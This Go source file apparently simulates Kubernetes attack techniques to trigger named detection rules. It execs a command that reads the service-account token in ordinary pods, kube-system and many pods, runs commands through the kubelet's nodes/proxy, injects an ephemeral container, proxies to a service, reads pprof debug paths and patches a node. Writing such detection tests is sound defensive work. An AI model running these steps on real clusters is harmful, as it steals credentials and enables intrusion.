package attack

import (
	"bytes"
	"fmt"
	"net/http"
	"net/url"

	corev1 "k8s.io/api/core/v1"
	"k8s.io/client-go/kubernetes/scheme"
	"k8s.io/client-go/tools/portforward"
	"k8s.io/client-go/tools/remotecommand"
	"k8s.io/client-go/transport/spdy"
)

// into is a request for a subresource of a pod, as kubectl makes it.
func (a *attacker) into(ns, name, sub string, options any) *url.URL {
	r := a.kube.CoreV1().RESTClient().Post().Namespace(ns).Resource("pods").Name(name).SubResource(sub)
	switch o := options.(type) {
	case *corev1.PodExecOptions:
		r = r.VersionedParams(o, scheme.ParameterCodec)
	case *corev1.PodAttachOptions:
		r = r.VersionedParams(o, scheme.ParameterCodec)
	}
	return r.URL()
}

var (
	shell = &corev1.PodExecOptions{Command: []string{"sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"}, Stdout: true}
	hold  = &corev1.PodAttachOptions{Stdout: true}
)

// stream opens what kubectl exec and attach open: over SPDY by POST, or over a WebSocket by
// GET.
func (a *attacker) stream(socket bool, at *url.URL) error {
	executor, err := remotecommand.NewSPDYExecutor(a.config, http.MethodPost, at)
	if socket {
		executor, err = remotecommand.NewWebSocketExecutor(a.config, http.MethodGet, at.String())
	}
	if err != nil {
		return err
	}
	return let(executor.StreamWithContext(a.ctx(), remotecommand.StreamOptions{Stdout: &bytes.Buffer{}}))
}

// forward is kubectl port-forward.
func (a *attacker) forward(socket bool) error {
	at := a.into(a.ns, "p", "portforward", nil)
	transport, upgrader, err := spdy.RoundTripperFor(a.config)
	if err != nil {
		return err
	}
	dialer := spdy.NewDialer(upgrader, &http.Client{Transport: transport}, http.MethodPost, at)
	if socket {
		if dialer, err = portforward.NewSPDYOverWebsocketDialer(at, a.config); err != nil {
			return err
		}
	}
	connection, _, err := dialer.Dial(portforward.PortForwardProtocolV1Name)
	if err == nil {
		err = connection.Close()
	}
	return let(err)
}

func enters(does, rule, sub string, socket bool) technique {
	return technique{does: does, rules: []string{rule}, do: func(a *attacker) error {
		if err := a.given(pod("p", "NS", plain)); err != nil {
			return err
		}
		switch sub {
		case "exec":
			return a.stream(socket, a.into(a.ns, "p", sub, shell))
		case "attach":
			return a.stream(socket, a.into(a.ns, "p", sub, hold))
		}
		return a.forward(socket)
	}}
}

var reachTechniques = []technique{
	enters("runs a command in a container (POST)", "exec", "exec", false),
	enters("runs a command in a container (WebSocket)", "exec", "exec", true),
	enters("attaches to a container (POST)", "attach", "attach", false),
	enters("attaches to a container (WebSocket)", "attach", "attach", true),
	enters("forwards a port (POST)", "port-forward", "portforward", false),
	enters("forwards a port (WebSocket)", "port-forward", "portforward", true),
	{does: "runs a command in a pod of kube-system", rules: []string{"exec-in-system"}, do: func(a *attacker) error {
		if err := a.given(pod("dns-NS", "kube-system", plain)); err != nil {
			return err
		}
		return a.stream(true, a.into("kube-system", "dns-"+a.ns, "exec", shell))
	}},
	{does: "runs commands in many pods", rules: []string{"exec-spree", "exec"}, do: func(a *attacker) error {
		for i := range 7 {
			name := fmt.Sprintf("p-%d", i)
			if err := a.given(pod(name, "NS", plain)); err != nil {
				return err
			}
			if err := a.stream(true, a.into(a.ns, name, "exec", shell)); err != nil {
				return err
			}
		}
		return nil
	}},
	{does: "puts a container into a running pod", rules: []string{"ephemeral-container"}, do: func(a *attacker) error {
		if err := a.given(pod("p", "NS", plain)); err != nil {
			return err
		}
		return a.patch(pod("p", "NS", plain), `{"spec":{"ephemeralContainers":[{"name":"debugger","image":"alpine","stdin":true}]}}`, "ephemeralcontainers")
	}},
	{does: "starts a pod, enters and deletes it", rules: []string{"short-lived-pod"}, do: func(a *attacker) error {
		p := pod("p", "NS", plain)
		if err := a.create(p); err != nil {
			return err
		}
		if err := a.stream(true, a.into(a.ns, "p", "exec", shell)); err != nil {
			return err
		}
		return a.remove(p)
	}},
	{does: "asks a kubelet for its pods through nodes/proxy", rules: []string{"nodes-proxy"}, do: func(a *attacker) error {
		return let(a.kube.CoreV1().RESTClient().Get().Resource("nodes").Name("worker").SubResource("proxy").Suffix("pods").Do(a.ctx()).Error())
	}},
	{does: "runs a command by the kubelet through nodes/proxy", rules: []string{"nodes-proxy"}, do: func(a *attacker) error {
		return let(a.kube.CoreV1().RESTClient().Post().Resource("nodes").Name("worker").SubResource("proxy").Suffix("run/shop/web/c").Param("cmd", "id").Do(a.ctx()).Error())
	}},
	{does: "reaches a service through the server", rules: []string{"service-proxy"}, do: func(a *attacker) error {
		if err := a.given("{apiVersion: v1, kind: Service, metadata: {name: db, namespace: NS}, spec: {ports: [{port: 80}]}}"); err != nil {
			return err
		}
		return let(a.kube.CoreV1().RESTClient().Get().Namespace(a.ns).Resource("services").Name("db").SubResource("proxy").Suffix("admin").Do(a.ctx()).Error())
	}},
	{does: "reads a profile of the server", rules: []string{"debug-paths"}, do: func(a *attacker) error {
		return let(a.kube.CoreV1().RESTClient().Get().AbsPath("/debug/pprof/cmdline").Do(a.ctx()).Error())
	}},
	{does: "changes a node", rules: []string{"node-tampering"}, do: func(a *attacker) error {
		return a.patch("{apiVersion: v1, kind: Node, metadata: {name: worker}}", `{"metadata":{"labels":{"pool":"NS"}}}`)
	}},
}
